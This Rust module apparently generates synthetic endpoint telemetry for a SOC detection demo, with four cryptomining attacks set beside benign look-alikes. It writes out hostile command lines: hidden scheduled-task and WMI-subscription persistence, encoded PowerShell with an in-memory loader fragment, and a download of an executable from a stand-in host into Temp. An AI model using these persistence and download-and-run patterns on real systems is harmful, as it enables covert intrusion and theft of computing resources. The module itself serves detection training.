//! What happens in the demo: four attacks, and the look-alikes that a SOC meets every week.
//!
//! Everything is inert text: wallets are made up, pools do not exist, and the scripts are fragments that cannot run.

use super::{
    fleet::{
        ARTIFACTS, BACKUP, BUILD_USER, CMD, COMPILER, CONHOST, DOWNLOADS, DROPPER, FALSE_SVCHOST, INSTALLER, Kind, MACHINES, MEDIA, MSBUILD, ORDERS, PERFSUITE,
        POOL_ONE, POOL_TWO, POWERSHELL, QUIET_POOL, RELAY, REPOSITORY, ROLLUP, SCHTASKS, SCRCONS, SQLSERVR, SYSTEM, Site, TEMP_MINER, TIWORKER, UPDATES, USER,
        WEB_POOL, XMRIG,
    },
    host::{Host, Running, encoded, hours, sha256},
    shapes,
};
use chrono::{DateTime, TimeDelta, Utc};
use rand::Rng as _;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

type Scene = fn(&mut Host, DateTime<Utc>);

/// Who plays what, in hours relative to now. The machine must be up then.
static SCENES: &[(&str, f64, Scene)] = &[
    // Attack 1: somebody mines on his workstation.
    ("ws-103", -2.2, miner_from_downloads),
    // Attack 2: a miner named like a system process, planted before a reboot and started by a task at boot; two hosts.
    ("srv-app-01", -15.2, plant_boot_task),
    ("srv-app-01", -13.95, miner_by_boot_task),
    ("lt-203", -16.5, plant_boot_task),
    ("lt-203", -9.05, miner_by_boot_task),
    // Attack 3: WMI subscription, script consumer, encoded PowerShell that loads code in memory.
    ("lt-201", -5.1, wmi_subscription),
    // Attack 4: exploited web application.
    ("web-02", -1.7, exploited_web_server),
    // Look-alikes.
    ("ws-105", -6.0, antivirus_scan),
    ("ws-101", -8.2, update_day),
    ("ws-102", -8.0, update_day),
    ("ws-104", -7.7, update_day),
    ("srv-file-01", -21.0, update_day),
    ("dc-01", -20.2, update_day),
    ("dev-301", -4.0, compile),
    ("dev-302", -2.5, compile),
    ("srv-file-01", -12.0, backup),
    ("build-01", -7.0, build_job),
    ("lt-202", -3.2, video_call),
    ("lt-204", -3.2, video_call),
    ("ws-106", -3.6, in_house_tool),
    ("sql-01", -10.0, nightly_rollup),
];

/// Plays the scenes that fall into one uptime of the host.
pub(super) fn play(host: &mut Host, now: DateTime<Utc>, on: DateTime<Utc>, off: DateTime<Utc>) {
    for (name, at, scene) in SCENES {
        let at = now + hours(*at);
        if *name == host.machine.name && on <= at && at < off {
            scene(host, at);
        }
    }
}

fn seconds(seconds: i64) -> TimeDelta {
    TimeDelta::seconds(seconds)
}

/// Later than anything in the demo: what lasts so long lasts until the machine goes down.
const FOR_EVER: TimeDelta = TimeDelta::hours(48);

/// An address of Monero's form that belongs to nobody.
fn wallet(label: &str) -> String {
    const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    let digits = (0u8..3).flat_map(|n| Sha256::digest([label.as_bytes(), &[n]].concat()).to_vec());
    let tail: String = digits.map(|byte| char::from(BASE58[usize::from(byte) % BASE58.len()])).take(93).collect();
    format!("4A{tail}")
}

/// A pool connection that is dropped and taken up again now and then.
fn mine(host: &mut Host, miner: Running, at: DateTime<Utc>, pool: &'static Site, share: f64) {
    host.busy(miner, at + seconds(20), at + FOR_EVER, share, 0.02);
    let mut next = at + seconds(5);
    for _ in 0..12 {
        let length = host.rng.random_range(5_000..9_000);
        host.connect(miner, next, pool, length);
        next += seconds(length + host.rng.random_range(8..40));
    }
}

fn miner_from_downloads(host: &mut Host, at: DateTime<Utc>) {
    let (browser, explorer) = (host.resident("browser"), host.resident("explorer"));
    let folder = r"C:\Users\%user%\Downloads";
    host.connect(browser, at, &DOWNLOADS, 9);
    host.write_file(browser, at + seconds(9), &format!(r"{folder}\xmrig-6.22.0-msvc-win64.zip"));
    for (n, file) in (0..).zip(["xmrig.exe", "config.json", "WinRing0x64.sys", "start.cmd"]) {
        host.write_file(explorer, at + seconds(60 + n), &format!(r"{folder}\xmrig-6.22.0\{file}"));
    }
    let shell = host.start(at + seconds(140), explorer, &CMD, &format!(r#"/c "{folder}\xmrig-6.22.0\start.cmd""#), USER);
    host.start(at + seconds(140), shell, &CONHOST, "0x4", USER);
    let arguments = format!("-o xmr.pool-one.example:3333 -u {} -p ws --donate-level=1 --cpu-max-threads-hint=75 -k", wallet("one"));
    let miner = host.start(at + seconds(141), shell, &XMRIG, &arguments, USER);
    mine(host, miner, at + seconds(142), &POOL_ONE, 74.0);
}

const TASK: &str = r"\Microsoft\Windows\WDI\ServiceHostMonitor";

fn plant_boot_task(host: &mut Host, at: DateTime<Utc>) {
    let folder = r"C:\ProgramData\Microsoft\WinSvc";
    let broker = host.resident("wmiprvse");
    let shell = host.run(at, broker, &POWERSHELL, r"-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\i.ps1", SYSTEM, (40, 3.0));
    host.connect(shell, at + seconds(3), &DROPPER, 8);
    host.script(shell, at + seconds(2), "# fragment\n$target = 'C:\\ProgramData\\Microsoft\\WinSvc'\nNew-Item -Type Directory -Force $target | Out-Null");
    for (n, file) in (0..).zip(["svchost.exe", "config.json"]) {
        host.write_file(shell, at + seconds(14 + n), &format!(r"{folder}\{file}"));
    }
    let task = format!(r#"/create /f /tn "{TASK}" /tr "{folder}\svchost.exe" /sc onstart /ru SYSTEM /rl HIGHEST"#);
    host.run(at + seconds(20), shell, &SCHTASKS, &task, SYSTEM, (1, 0.2));
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  \
         <RegistrationInfo><Author>Microsoft Corporation</Author><URI>{TASK}</URI></RegistrationInfo>\r\n  \
         <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>\r\n  \
         <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>\r\n  \
         <Settings><Hidden>true</Hidden><ExecutionTimeLimit>PT0S</ExecutionTimeLimit></Settings>\r\n  \
         <Actions Context=\"Author\"><Exec><Command>{folder}\\svchost.exe</Command></Exec></Actions>\r\n</Task>"
    );
    let computer = format!("{}$", host.machine.name.to_uppercase());
    let data = shapes::texts([
        ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", &computer), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x3e7"),
        ("TaskName", TASK), ("TaskContent", &xml),
    ]);
    host.log(at + seconds(21), &shapes::TASK_CREATED, data);
    host.log(at + seconds(21), &shapes::TASK_REGISTERED, shapes::texts([("TaskName", TASK), ("UserContext", "S-1-5-18")]));
}

fn miner_by_boot_task(host: &mut Host, at: DateTime<Utc>) {
    let miner = host.start(at, host.resident("schedule"), &FALSE_SVCHOST, "", SYSTEM);
    host.task_started(miner, at + TimeDelta::milliseconds(40), TASK);
    mine(host, miner, at + seconds(2), &QUIET_POOL, 61.0);
}

fn wmi_subscription(host: &mut Host, at: DateTime<Utc>) {
    let loader = "# fragment, not runnable\n$code = [Convert]::FromBase64String($part1 + $part2)\n\
                  $page = $kernel32::VirtualAlloc([IntPtr]::Zero, $code.Length, 0x3000, 0x40)\n\
                  $entry = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($page, $shape)\n\
                  # randomx light mode, 4 threads";
    let start = format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", encoded("$part1 = (Get-ItemProperty HKLM:\\SOFTWARE\\Classes\\wcfg).a; IEX $part1"));
    let rows: [(&'static shapes::Layout, &[(&'static str, &str)]); 3] = [
        (&shapes::WMI_FILTER, &[("EventType", "WmiFilterEvent"), ("EventNamespace", r#" "root\\CimV2""#), ("Name", r#" "WinUpdateCheck""#),
            ("Query", r#" "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'""#)]),
        (&shapes::WMI_CONSUMER, &[("EventType", "WmiConsumerEvent"), ("Name", r#" "WinUpdateCheck""#), ("Type", "Script"),
            ("Destination", &format!(r#" "CreateObject(\"WScript.Shell\").Run \"{start}\", 0""#))]),
        (&shapes::WMI_BINDING, &[("EventType", "WmiBindingEvent"),
            ("Consumer", r#" "\\\\.\\ROOT\\subscription:ActiveScriptEventConsumer.Name=\"WinUpdateCheck\"""#),
            ("Filter", r#" "\\\\.\\ROOT\\subscription:__EventFilter.Name=\"WinUpdateCheck\"""#)]),
    ];
    for (n, (layout, values)) in (0..).zip(rows) {
        let at = at + seconds(2 * n);
        let (time, user) = (at.format("%Y-%m-%d %H:%M:%S%.3f").to_string(), format!(r"CORP\{}", host.machine.user));
        let mut data = shapes::texts([("RuleName", "-"), ("UtcTime", &time), ("Operation", "Created"), ("User", &user)]);
        data.extend(values.iter().map(|(name, value)| (*name, (*value).to_owned())));
        host.log(at, layout, data);
    }
    let consumer = host.start(at + seconds(70), host.resident("dcom"), &SCRCONS, "-Embedding", SYSTEM);
    let arguments = start.split_once(' ').map_or("", |(_, arguments)| arguments);
    let shell = host.start(at + seconds(71), consumer, &POWERSHELL, arguments, SYSTEM);
    host.script(shell, at + seconds(73), loader);
    mine(host, shell, at + seconds(90), &RELAY, 52.0);
}

fn exploited_web_server(host: &mut Host, at: DateTime<Utc>) {
    let pool = host.resident("w3wp");
    let fetch = "$c = New-Object Net.WebClient; $c.DownloadFile('https://files.paste-box.example/w', 'C:\\Windows\\Temp\\wmiupd.exe') # fragment";
    let shell = host.run(at, pool, &CMD, &format!("/c powershell -NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, (90, 0.5));
    let loader = host.run(at + seconds(1), shell, &POWERSHELL, &format!("-NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, (80, 4.0));
    host.script(loader, at + seconds(3), fetch);
    host.connect(loader, at + seconds(4), &DROPPER, 12);
    host.write_file(loader, at + seconds(16), r"C:\Windows\Temp\wmiupd.exe");
    host.write_file(loader, at + seconds(17), r"C:\Windows\Temp\WinRing0x64.sys");
    let arguments = format!("--url stratum+ssl://xmr-eu.pool-two.example:14433 --user {} --pass web --coin monero --background", wallet("two"));
    let miner = host.start(at + seconds(25), loader, &TEMP_MINER, &arguments, WEB_POOL);
    let data = shapes::texts([
        ("ServiceName", "WinRing0_1_2_0"), ("ImagePath", r"C:\Windows\Temp\WinRing0x64.sys"), ("ServiceType", "kernel mode driver"),
        ("StartType", "demand start"), ("AccountName", ""),
    ]);
    host.log(at + seconds(26), &shapes::SERVICE_INSTALLED, data);
    mine(host, miner, at + seconds(27), &POOL_TWO, 83.0);
}

fn antivirus_scan(host: &mut Host, at: DateTime<Utc>) {
    host.busy(host.resident("defender"), at, at + TimeDelta::minutes(55), 58.0, 0.3);
}

fn update_day(host: &mut Host, at: DateTime<Utc>) {
    host.connect(host.resident("update"), at, &UPDATES, 240);
    let installer = host.run(at + seconds(200), host.resident("services"), &INSTALLER, "", SYSTEM, (2_700, 0.5));
    let worker = host.run(at + seconds(205), host.resident("dcom"), &TIWORKER, "-Embedding", SYSTEM, (2_600, 1.0));
    host.busy(worker, at + seconds(220), at + seconds(2_500), 36.0, 0.5);
    host.busy(installer, at + seconds(220), at + seconds(2_500), 4.0, 0.5);
}

fn compile(host: &mut Host, at: DateTime<Utc>) {
    let build = host.run(at, host.resident("code"), &MSBUILD, r#""C:\src\portal\portal.sln" /m:8 /p:Configuration=Release"#, USER, (4_200, 3.0));
    let mut next = at + seconds(5);
    while next < at + seconds(4_100) {
        let length = host.rng.random_range(20..180);
        let load = host.rng.random_range(4.0..9.0);
        host.run(next, build, &COMPILER, r#"/c /nologo /O2 /Fo"x64\Release\" src\module%n%.cpp"#, USER, (length, load));
        // Linking and waiting leave the processors idle for a while.
        next += seconds(if host.rng.random_bool(0.05) { 240 } else { host.rng.random_range(6..22) });
    }
}

fn backup(host: &mut Host, at: DateTime<Utc>) {
    let agent = host.run(at, host.resident("services"), &BACKUP, r#"--job "nightly full" --repository srv-bkp-01.corp.example:10006"#, SYSTEM, (10_900, 0.5));
    host.connect(agent, at + seconds(20), &REPOSITORY, 10_800);
    host.busy(agent, at + seconds(30), at + seconds(10_700), 38.0, 0.3);
}

fn build_job(host: &mut Host, at: DateTime<Utc>) {
    let step = encoded("Set-Location C:\\agent\\_work\\7\\s; dotnet build -c Release; & .\\bin\\perfsuite.exe --suite hashing --minutes 90");
    let shell = host.run(at, host.resident("runner"), &POWERSHELL, &format!("-NoLogo -NoProfile -NonInteractive -EncodedCommand {step}"), BUILD_USER, (6_300, 0.4));
    let suite = host.run(at + seconds(240), shell, &PERFSUITE, "--suite hashing --minutes 90", BUILD_USER, (5_400, 1.0));
    host.busy(suite, at + seconds(245), at + seconds(5_600), 82.0, 0.03);
    host.connect(suite, at + seconds(250), &ARTIFACTS, 5_300);
}

fn video_call(host: &mut Host, at: DateTime<Utc>) {
    let teams = host.resident("teams");
    host.connect(teams, at, &MEDIA, 3_000);
    host.busy(teams, at, at + seconds(3_000), 33.0, 0.15);
}

fn in_house_tool(host: &mut Host, at: DateTime<Utc>) {
    let tool = host.run(at, host.resident("explorer"), &ROLLUP, r"/month /out C:\Users\%user%\Documents\rollup-%n%.xlsx", USER, (2_700, 1.0));
    host.connect(tool, at + seconds(4), &ORDERS, 2_600);
    host.busy(tool, at + seconds(5), at + seconds(2_650), 47.0, 0.3);
}

fn nightly_rollup(host: &mut Host, at: DateTime<Utc>) {
    host.busy(host.resident("sql"), at, at + TimeDelta::minutes(80), 44.0, 0.2);
}

/// What people had entered before: hosts, indicators, an approved baseline and the registered build job.
pub(super) fn setup(now: DateTime<Utc>) -> Vec<(&'static str, Value)> {
    let mut calls: Vec<(&'static str, Value)> = MACHINES
        .iter()
        .map(|m| {
            let mut body = json!({ "name": m.name, "tier": m.tier, "class": m.kind.class(), "tags": m.tags });
            if !m.role.is_empty() {
                body["role"] = m.role.into();
            }
            ("/api/v1/hosts", body)
        })
        .collect();
    let indicators = [("domain", "pool-one.example"), ("domain", "pool-two.example"), ("ip", POOL_ONE.ip), ("ip", POOL_TWO.ip)];
    calls.extend(indicators.map(|(kind, value)| {
        let seen = now - TimeDelta::days(3);
        let body = json!({
            "list": "DestinationIPList", "kind": kind, "value": value, "category": "pool", "confidence": "high", "source": "demo feed", "last_seen": seen,
        });
        ("/api/v1/indicators", body)
    }));
    calls.push(("/api/v1/baselines", json!({
        "image": SQLSERVR.path, "host_class": Kind::Database.class(), "cpu_share": 50.0, "note": "nightly roll-up of orders",
    })));
    calls.push(("/api/v1/allowlist", json!({
        "name": "Hashing benchmark of the build pipeline", "kind": "approved_compute",
        "match": { "sha256": sha256(&PERFSUITE).to_lowercase(), "image": r"C:\agent\_work\*\perfsuite.exe" },
        "scope": { "tags": ["ci"] }, "covers": ["R", "C", "L", "P", "M"],
        "reason": "Performance suite runs for 90 minutes on every merge; agreed with the platform team", "ticket": "OPS-2417",
    })));
    calls
}
